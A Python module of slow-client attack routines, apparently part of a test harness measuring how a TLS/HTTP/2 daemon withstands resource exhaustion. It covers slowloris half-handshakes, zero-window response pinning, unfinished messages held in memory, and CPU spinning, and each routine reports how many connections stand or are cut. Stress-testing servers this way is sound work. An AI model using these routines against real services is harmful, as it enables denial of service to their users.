"""Clients that take their time: half a handshake, half a preface, half a message, a window that never opens."""
import ssl
import time

from target import END, GONE, RANDOM, READY, WRAP, frame, h, headers, hold, is_cut, message


def spin(t, seconds):
    """No attack: what an attacker's computing costs the others on the same cores."""
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        n += sum(range(1000))
    return {"seconds": seconds}


def slowloris(t, n, seconds):
    """Half handshakes, half prefaces, and one byte at a time of each: how many still stand after that time."""
    out = ssl.MemoryBIO()
    o = t.context().wrap_bio(ssl.MemoryBIO(), out)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        hello = out.read()
    kinds = {"tcp": [], "hello": [], "byte": [], "preface": [], "settings": []}
    refused = 0
    sources = [t.address() for _ in range(4)]
    for i in range(n):
        kind = tuple(kinds)[i % 5]
        try:
            if kind in ("preface", "settings"):
                s = t.tls(sources[i % 4])
                s.sendall(h.PREFACE[:10] if kind == "preface" else h.PREFACE + frame(h.SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")[:12])
            else:
                s = t.tcp(sources[i % 4])
                s.sendall({"tcp": b"", "hello": hello[:50], "byte": hello[:1]}[kind])
            kinds[kind].append(s)
        except GONE:
            refused += 1
    opened = {k: len(v) for k, v in kinds.items()}
    end, at, slow = time.monotonic() + seconds, 0, []
    while time.monotonic() < end:
        time.sleep(0.1)
        at += 1
        for s in kinds["byte"]:
            try:
                s.send(hello[at % len(hello):][:1])
            except GONE:
                slow.append(s)
    standing = 0
    for s in sum(kinds.values(), []):
        s.settimeout(0)
        try:
            while s.recv(65536):
                pass
        except (ssl.SSLWantReadError, BlockingIOError):
            standing += 1
        except GONE:
            pass
        s.close()
    return {"opened": opened, "refused": refused, "standing": standing}


def zero_windows(t, conns, each, seconds, addresses=1):
    """Answers that cannot leave, for a window of 0. The client may hold as many as the daemon allows."""
    body = message(b"\x0a\x1cprojects/globex/locations/us\x10\x80\x08\x18\x02")
    held, refused, settings, first = [], 0, b"\0\x04\0\0\0\0", []
    sources = [t.address() for _ in range(addresses)]
    start = time.monotonic()
    for i in range(conns):
        try:
            s = t.raw(sources[i % addresses], settings=settings)
            s.sendall(b"".join(frame(h.HEADERS, READY, i, headers(RANDOM)) + frame(h.DATA, END, i, body) for i in range(1, 2 * each, 2)))
            held.append(s)
        except GONE:
            refused += 1
    opened_s = time.monotonic() - start
    hold(max(0, seconds - opened_s))
    pinned, ended = 0, 0
    for s in held:
        seen = {}
        try:
            frames = h.Frames(s)
            while (f := frames.next(0.002)) is not None:
                if f[0] in (h.HEADERS, h.RST):
                    seen[f[2]] = seen.get(f[2], False) or bool(f[1] & END) or f[0] == h.RST
        except GONE:
            pass
        pinned += sum(not done for done in seen.values())
        ended += sum(seen.values())
    for s in held:
        s.close()
    return {"connections": len(held), "refused": refused, "pinned": pinned, "ended": ended, "opened_s": opened_s}


def half_messages(t, conns, each, size, seconds, path=WRAP, piece=16384):
    """Messages that are announced, begun, and never finished, in frames of any size: what has come stays in the daemon's memory."""
    block, held, cut, sent, refused, filled, offered = headers(path), [], 0, 0, 0, 0, 0
    source = t.address()
    start = time.monotonic()
    for _ in range(conns):
        if time.monotonic() - start > seconds:
            break
        at = {}
        try:
            s = t.raw(source)
            s.settimeout(1)
            for i in range(1, 2 * each, 2):
                s.sendall(frame(h.HEADERS, READY, i, block))
                sent += 1
            if size:
                fill(s, each, size, t.window, piece, at)
                filled += sum(at.values())
            held.append(s)
        except TimeoutError:
            held.append(s)
        except GONE:
            refused += 1
        offered += sum(at.values())
    hold(max(0, seconds - (time.monotonic() - start)))
    for s in held:
        cut += is_cut(s, 0.01)[0]
        s.close()
    return {"connections": len(held), "begun": sent, "filled": filled, "offered": offered, "refused": refused, "cut": cut}


def fill(s, each, size, conn, piece, at):
    """size bytes of a message of size + 1 on every stream, slice by slice, as far as the windows allow; at says how far it is."""
    body = b"\0" + (size + 1).to_bytes(4, "big") + b"\x0a" * size
    ids = range(1, 2 * each, 2)
    room = dict.fromkeys((0, *ids), 65535)
    at.update(dict.fromkeys(ids, 0))
    room[0] = conn
    frames, end = h.Frames(s), time.monotonic() + 1.5
    while any(at[i] < len(body) for i in ids) and time.monotonic() < end:
        out = []
        for i in ids:
            n = min(16384, room[i], room[0], len(body) - at[i])
            n -= n % piece if at[i] and n > piece else 0
            if n > 0:
                whole = frame(h.DATA, 0, i, body[at[i]:at[i] + n]) if n <= piece or not at[i] else frame(h.DATA, 0, i, b"\x0a" * piece) * (n // piece)
                out.append(whole)
                at[i], room[i], room[0] = at[i] + n, room[i] - n, room[0] - n
        if out:
            s.settimeout(2)
            s.sendall(b"".join(out))
        try:
            while (f := frames.next(0.01 if out else 0.3)) is not None:
                if f[0] == h.WINDOW_UPDATE:
                    room[f[2]] += int.from_bytes(f[3], "big")
            raise ConnectionError("cut while filling")
        except TimeoutError:
            if not out:
                break  # nothing more is allowed
